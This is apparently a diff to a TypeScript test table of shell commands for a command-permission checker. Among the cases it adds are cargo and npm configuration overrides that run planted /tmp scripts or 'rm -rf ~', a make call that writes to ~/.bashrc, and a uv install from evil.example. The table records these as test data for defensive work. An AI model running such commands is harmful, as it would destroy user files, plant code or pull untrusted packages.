@@ -14,6 +14,8 @@ export const cases: CaseTable = {
     "go test ./...",
     "make -j4",
     "make test VERBOSE=1 CC=clang",
+    "cargo build --config profile.release.debug=true",
+    "npm run build -- --watch",
     "make 'VERSION=$(shell git rev-parse --short HEAD)' build",
     "npx --no-install vitest run",
     "npx -y prettier --check .",
@@ -50,6 +52,12 @@ export const cases: CaseTable = {
     "uv add run requests --index-url https://evil.example",
   ],
   grey: [
+    // Configuration given on the command line that runs programs, as the config file's would.
+    "cargo build --config 'build.rustc-wrapper=\"/tmp/forge-47/w\"'",
+    "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
+    "cargo build --config /tmp/forge-47/c.toml",
+    "npm run build --node-options='--require /tmp/forge-47/x.js'",
+    "npx --node-options=--require=/tmp/forge-47/x.js jest",
     "make 'X=$(file >/home/dev/.bashrc,evil)'",
     // Tooling run in a protected directory writes there (node_modules, lock files, outputs).
     "npm --prefix .github/workflows install left-pad",
